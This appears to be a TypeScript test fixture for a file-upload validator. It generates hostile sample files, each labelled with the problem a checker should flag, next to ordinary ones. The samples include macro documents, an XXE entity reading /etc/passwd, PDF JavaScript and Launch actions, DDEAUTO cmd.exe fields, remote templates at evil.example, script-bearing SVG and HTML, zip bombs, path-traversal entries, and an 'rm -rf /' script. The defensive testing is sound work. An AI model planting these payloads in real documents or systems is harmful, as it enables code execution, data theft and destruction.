import { comment, exif, jpeg, packedObjects, pdf, png, webp } from '@/lib/files/testing/documents';
import type { Problem } from '@/lib/files/kinds';
import { office, openDocument, relation, zip, type Packed } from '@/lib/files/testing/archives';

/** A file as somebody might send it, made anew every time: nothing harmful is kept in the project. */
export type Sample = { name: string; what: string; bytes: () => Buffer; /** Why it is not taken; nothing where it is. */ problem: Problem | null };

const sample = (name: string, what: string, problem: Problem | null, bytes: () => string | Buffer | Packed[]): Sample => ({
  name, what, problem,
  bytes: () => {
    const made = bytes();
    return Array.isArray(made) ? zip(made) : Buffer.from(made);
  },
});

const macros = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const html = '<!doctype html><script>alert(document.cookie)</script>';
const field = (text: string) => `<w:r><w:instrText xml:space="preserve"> ${text} </w:instrText></w:r>`;
/** Zeros pack to a thousandth. */
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

/** The text by which virus scanners are tried out. In two parts, so that this file is not taken for it. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

export const hostile: Sample[] = [
  // What runs.
  sample('minute.docx', 'Word with macros under the name of one without', 'macros', () => office('docx', { more: [{ name: 'word/vbaProject.bin', content: 'macro' }], types: macros })),
  sample('minute.docm', 'Word with macros by its name', 'macros', () => office('docx')),
  sample('data.xlsm', 'Excel with macros by its name', 'macros', () => office('xlsx')),
  sample('data.xlsb', 'Excel in its binary form', 'macros', () => office('xlsx')),
  sample('data.xlsx', 'Excel with macros by its type', 'macros', () => office('xlsx', { types: '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>' })),
  sample('data.xlsx', 'Excel with a sheet of macros of the old kind', 'macros', () => office('xlsx', { more: [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }] })),
  sample('talk.pptx', 'PowerPoint with macros, their letters of another size', 'macros', () => office('pptx', { more: [{ name: 'ppt/VbaProject.bin', content: 'macro' }] })),
  sample('minute.docx', 'Word with an ActiveX control', 'active', () => office('docx', { more: [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }] })),
  sample('minute.docx', 'Word with a document type that names files of the reader', 'active', () => office('docx', { body: '<x/>', types: '' }).map((one) => (one.name === 'word/document.xml' ? { ...one, content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' } : one))),
  sample('minute.odt', 'OpenDocument with macros', 'macros', () => openDocument('text', { more: [{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }] })),
  sample('minute.odt', 'OpenDocument that runs something when it is opened', 'macros', () => openDocument('text', { body: '<script:event-listener script:event-name="dom:load"/>' })),
  sample('report.pdf', 'PDF with a script', 'active', () => pdf(['<< /S /JavaScript /JS (app.alert(1)) >>'])),
  sample('report.pdf', 'PDF with a script spelt in numbers', 'active', () => pdf(['<< /S /J#61vaScr#69pt /#4a#53 (app.alert(1)) >>'])),
  sample('report.pdf', 'PDF with a script in packed objects', 'active', () => pdf([packedObjects('<< /S /JavaScript /JS (app.alert(1)) >>')])),
  sample('report.pdf', 'PDF with a script in packed objects, spelt in numbers', 'active', () => pdf([packedObjects('<< /S /JavaScript /JS (app.alert(1)) >>', '/F#69lter /Fl#61teDecode', '/Type /Obj#53tm')])),
  sample('report.pdf', 'PDF with a script in objects that are not packed', 'active', () => pdf([packedObjects('<< /S /JavaScript >>', '')])),
  sample('report.pdf', 'PDF that starts a program', 'active', () => pdf(['<< /S /Launch /F (cmd.exe) >>'])),
  sample('report.pdf', 'PDF with a form of the kind that runs', 'active', () => pdf([], { catalogue: '/AcroForm << /XFA 9 0 R >>' })),
  sample('tool.pdf', 'a program', 'not-allowed', () => Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), zeros(1)])),
  sample('minute.docx', 'Word with a program inside', 'active', () => office('docx', { more: [{ name: 'word/media/image1.png', content: Buffer.from('MZ\x90\0program', 'latin1'), stored: true }] })),
  sample('run.txt', 'a script of a shell', 'not-allowed', () => '#!/bin/sh\nrm -rf /'),

  // What fetches.
  sample('minute.docx', 'Word with a template elsewhere', 'linked', () => office('docx', { relations: relation('attachedTemplate', 'https://evil.example/t.dotm') })),
  sample('minute.docx', 'Word with a template elsewhere, told with spaces', 'linked', () => office('docx', { relations: relation('attachedTemplate', 'https://evil.example/t.dotm').replace('TargetMode="', "TargetMode = '").replace(/"\/>$/, "' />") })),
  sample('minute.docx', 'Word with a picture elsewhere', 'linked', () => office('docx', { relations: relation('image', 'https://evil.example/pixel.png') })),
  sample('minute.docx', 'Word with a picture elsewhere, told by a number for a letter', 'linked', () => office('docx', { relations: relation('image', '//evil.example/pixel.png', 'E&#x78;ternal') })),
  sample('minute.docx', 'Word with a field that starts a program', 'linked', () => office('docx', { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') })),
  sample('minute.docx', 'Word with such a field, split over runs', 'linked', () => office('docx', { body: '<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>' })),
  sample('data.xlsx', 'Excel with a workbook elsewhere', 'linked', () => office('xlsx', { more: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }] })),
  sample('minute.odt', 'OpenDocument with a picture elsewhere', 'linked', () => openDocument('text', { body: '<draw:image xlink:href="https://evil.example/p.png"/>' })),
  sample('report.pdf', 'PDF that leads to another file', 'linked', () => pdf(['<< /S /GoToR /F (//evil.example/x) >>'])),

  // What has something else inside.
  sample('minute.docx', 'Word with another program’s object', 'holds-files', () => office('docx', { more: [{ name: 'word/embeddings/oleObject1.bin', content: 'object' }] })),
  sample('minute.docx', 'Word with an archive among its pictures', 'holds-files', () => office('docx', { more: [{ name: 'word/media/image1.png', content: zip(office('docx')), stored: true }] })),
  sample('report.pdf', 'PDF with a file inside', 'holds-files', () => pdf(['<< /Type /Filespec /EF << /F 9 0 R >> >>', '<< /Type /EmbeddedFile >>'])),

  // What a browser would show as a page.
  sample('drawing.svg', 'a drawing that runs', 'not-allowed', () => svg),
  sample('drawing.png', 'the same under another name', 'not-allowed', () => svg),
  sample('page.html', 'a page', 'not-allowed', () => html),
  sample('page.txt', 'a page as text', 'not-allowed', () => html),
  sample('page.csv', 'a page behind a byte order mark and blanks', 'not-allowed', () => `\uFEFF \n\t${html}`),
  sample('notes.txt', 'text with a script further on', 'not-allowed', () => `Minute of the meeting\n${html}`),
  sample('mail.eml', 'a message', 'not-allowed', () => 'From: a@example.invalid\r\n\r\nHello'),

  // What is two things at once.
  sample('report.pdf', 'PDF and archive', 'two-kinds', () => Buffer.concat([pdf(), zip(office('docx'))])),
  sample('report.pdf', 'PDF inside the comment of an archive', 'two-kinds', () => zip(office('docx'), { before: pdf(), comment: '%%EOF' })),
  sample('report.pdf', 'PDF that begins as a page', 'two-kinds', () => pdf([], { start: `%PDF-1.7\n%${html}\n` })),
  sample('photo.jpg', 'JPEG and archive', 'two-kinds', () => jpeg({ after: zip(office('docx')) })),
  sample('photo.jpg', 'JPEG with a page in its comment', 'two-kinds', () => jpeg({ more: [comment(html)] })),
  sample('photo.png', 'PNG and page', 'two-kinds', () => png({ after: html })),
  sample('photo.webp', 'WebP and archive', 'two-kinds', () => webp({ after: zip(office('docx')).toString('latin1') })),
  sample('minute.docx', 'an archive with something before it', 'two-kinds', () => zip(office('docx'), { before: `PK\x03\x04${html}` })),
  sample('minute.docx', 'an archive with something behind it', 'two-kinds', () => zip(office('docx'), { comment: html })),
  sample('minute.docx', 'an archive with something between its entries', 'damaged', () => zip(office('docx'), { between: html })),

  // What opens larger than it is.
  sample('bomb.docx', 'a megabyte of zeros for every kilobyte', 'opens-too-large', () => office('docx', { more: [{ name: 'word/media/a.bin', content: zeros(40) }] })),
  sample('bomb.xlsx', 'the same in a sheet', 'opens-too-large', () => office('xlsx', { more: Array.from({ length: 8 }, (_, place) => ({ name: `xl/worksheets/sheet${place}.xml`, content: zeros(40) })) })),
  sample('bomb.docx', 'one that says it is small', 'opens-too-large', () => office('docx', { more: [{ name: 'word/media/a.bin', content: zeros(40), says: { size: 2_000 } }] })),
  sample('bomb.docx', 'entries that share their bytes', 'damaged', () => {
    const [first, ...rest] = office('docx', { more: [{ name: 'a', content: zeros(1) }] });
    return [first!, ...rest, { name: 'b', content: '', says: { start: 0 } }];
  }),
  sample('bomb.docx', 'more entries than any document has', 'opens-too-large', () => office('docx', { more: Array.from({ length: 5_000 }, (_, place) => ({ name: `word/${place}.xml`, content: '' })) })),
  sample('flood.png', 'a picture of a thousand million pixels', 'opens-too-large', () => png({ width: 40_000, height: 30_000, rows: 1 })),
  sample('flood.png', 'a small picture with more rows than it says', 'opens-too-large', () => png({ width: 10, height: 10, rows: 500_000 })),
  sample('flood.jpg', 'a picture as large as the form allows', 'opens-too-large', () => jpeg({ width: 65_000, height: 65_000 })),
  sample('flood.webp', 'a picture of the largest size', 'opens-too-large', () => webp({ width: 16_383, height: 16_383 })),
  sample('bomb.pdf', 'packed objects of a hundred megabytes', 'opens-too-large', () => pdf([packedObjects(zeros(100).toString('latin1'))])),

  // What leads out of an archive, or is spoilt.
  sample('minute.docx', 'an entry with a path upwards', 'damaged', () => office('docx', { more: [{ name: '../../etc/cron.d/x', content: 'x' }] })),
  sample('minute.docx', 'an entry with a path of another system', 'damaged', () => office('docx', { more: [{ name: '..\\..\\windows\\x', content: 'x' }] })),
  sample('minute.docx', 'an entry from the root', 'damaged', () => office('docx', { more: [{ name: '/etc/passwd', content: 'x' }] })),
  sample('minute.docx', 'two entries of one name', 'damaged', () => office('docx', { more: [{ name: 'WORD/document.xml', content: 'x' }] })),
  sample('minute.docx', 'an entry whose sum is wrong', 'damaged', () => office('docx', { more: [{ name: 'a.xml', content: 'x', says: { crc: 1 } }] })),
  sample('minute.docx', 'cut off in the middle', 'damaged', () => zip(office('docx')).subarray(0, -40)),
  sample('report.pdf', 'PDF cut off in the middle', 'damaged', () => pdf().subarray(0, -30)),
  sample('photo.png', 'PNG cut off in the middle', 'damaged', () => png().subarray(0, -20)),
  sample('photo.jpg', 'JPEG cut off in the middle', 'damaged', () => jpeg({ cut: true })),
  sample('photo.webp', 'WebP cut off in the middle', 'damaged', () => webp().subarray(0, -4)),

  // What is locked, empty, too large, or not what it is called.
  sample('minute.docx', 'an entry that is locked', 'locked', () => office('docx', { more: [{ name: 'a.xml', content: 'x', says: { flags: 1 } }] })),
  sample('minute.docx', 'Word that is locked with a password', 'locked', () => Buffer.concat([Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), zeros(1), Buffer.from('EncryptedPackage', 'utf16le')])),
  sample('report.pdf', 'PDF that is locked with a password', 'locked', () => pdf([], { trailer: '/Encrypt 9 0 R' })),
  sample('minute.odt', 'OpenDocument that is locked', 'locked', () => openDocument('text', { manifest: '<manifest:encryption-data/>' })),
  sample('minute.doc', 'Word of 1997', 'not-allowed', () => Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1')),
  sample('empty.pdf', 'nothing', 'empty', () => ''),
  sample('minute.pdf', 'Word called PDF', 'not-what-it-says', () => office('docx')),
  sample('photo.jpg', 'PNG called JPEG', 'not-what-it-says', () => png()),
  sample('data.xlsx', 'Word called Excel', 'not-what-it-says', () => office('docx')),
  sample('report.pdf', 'text called PDF', 'not-what-it-says', () => 'Minute of the meeting'),
  sample('report.pdf.exe', 'PDF called a program', 'not-allowed', () => pdf()),
  sample('files.zip', 'an archive', 'not-allowed', () => [{ name: 'a.txt', content: 'a' }]),
  sample('files.docx', 'an archive called Word', 'not-allowed', () => [{ name: 'a.txt', content: 'a' }]),
  sample('picture.gif', 'GIF', 'not-allowed', () => 'GIF89a'),
];

/** What people send every day. */
export const sound: Sample[] = [
  sample('minute.docx', 'Word', null, () => office('docx', { relations: relation('hyperlink', 'https://example.org/procedure'), body: field('PAGE') })),
  sample('data.xlsx', 'Excel', null, () => office('xlsx')),
  sample('talk.PPTX', 'PowerPoint, in capitals', null, () => office('pptx')),
  sample('minute.odt', 'OpenDocument text', null, () => openDocument('text', { body: '<text:a xlink:href="https://example.org/">procedure</text:a>' })),
  sample('data.ods', 'OpenDocument spreadsheet', null, () => openDocument('spreadsheet')),
  sample('talk.odp', 'OpenDocument presentation', null, () => openDocument('presentation')),
  sample('report.pdf', 'PDF', null, () => pdf()),
  sample('report.pdf', 'PDF with packed objects and picture data that reads like a script', null, () => pdf([packedObjects('<< /Type /Font /JSON (x) >>'), { told: '/Type /XObject /Subtype /Image', data: Buffer.from('\x01/JS /JavaScript\x02') }], { end: '%%EOF\r\n\0' })),
  sample('photo.png', 'PNG', null, () => png({ more: [['tEXt', 'Author\0Somebody']] })),
  sample('photo.jpeg', 'JPEG from a telephone', null, () => jpeg({ more: [exif(6), comment('Taken by somebody')], after: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) })),
  sample('photo.webp', 'WebP', null, () => webp({ more: [['EXIF', 'Somebody'], ['XMP ', 'Somewhere']] })),
  sample('list.csv', 'CSV with the letters of Windows', null, () => Buffer.from('Agency;Attended\r\nJos\xe9;4\r\n', 'latin1')),
  sample('notes.txt', 'text', null, () => 'Attended: 14 of 23 (< half of them twice)\n'),
];
